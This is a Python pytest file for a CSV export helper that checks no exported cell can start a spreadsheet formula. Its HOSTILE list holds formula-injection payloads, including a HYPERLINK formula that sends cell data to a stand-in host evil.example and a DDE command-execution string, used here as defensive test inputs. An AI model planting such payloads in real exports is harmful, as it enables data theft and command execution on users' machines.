"""A CSV file is read back as it was meant, and no cell of it is a formula anywhere."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bizosaas_app.services.analytics import csv_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "\tplain",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "  =1",
    "\u3000=1",
    "\ufeff=1",
    "a;=1",
    "a\t=1",
    "a,=1",
    "a\n=1",
    "a;  @x",
]


def read_back(file: str) -> list[list[str]]:
    assert file.startswith("\ufeff")
    return list(csv.reader(io.StringIO(file.removeprefix("\ufeff"), newline=""), strict=True))


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_part_of_a_hostile_cell_begins_a_formula_whatever_parts_cells(cell: str) -> None:
    ((shown,),) = read_back(csv_text.write([], [[cell]]))[1:]
    assert shown.replace("'", "") == cell.replace("'", "")
    for part in re.split(r"[;,|\t\r\n]", shown):
        assert re.match(r"[\s\ufeff]*[=+\-@\uff0b\uff0d\uff1d\uff20]", part) is None
    assert shown[0] not in "\t\r\n"


@pytest.mark.parametrize(
    "cell", ["Mia Novak", "O'Neill", "a-b=c", "Q1 2026 (+20 %)", "mia@acme.example", "", "Zoë 日本"]
)
def test_ordinary_text_stays_as_it_is(cell: str) -> None:
    assert read_back(csv_text.write(["name"], [[cell]])) == [["name"], [cell]]


def test_numbers_stay_numbers_and_only_text_is_quoted() -> None:
    east = timezone(timedelta(hours=2))
    row = [Decimal("-12.5000"), Decimal(1000), -3, 0.5, None, date(2026, 3, 1), datetime(2026, 3, 1, 1, tzinfo=east)]
    line = csv_text.write([], [row]).split("\r\n")[1]
    assert line == '-12.5,1000,-3,0.5,,"2026-03-01","2026-02-28T23:00:00Z"'


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4), max_size=5))
def test_any_text_comes_back_but_for_apostrophes(rows: list[list[str]]) -> None:
    plain = [[cell.replace("'", "") for cell in row] for row in rows]
    found = read_back(csv_text.write(["header"], plain))[1:]
    assert [[cell.replace("'", "") for cell in row] for row in found] == plain


def test_lines_end_as_rfc_4180_says() -> None:
    assert csv_text.write(["a"], [["x"], [datetime(2026, 1, 1, tzinfo=UTC)]]).count("\r\n") == 3
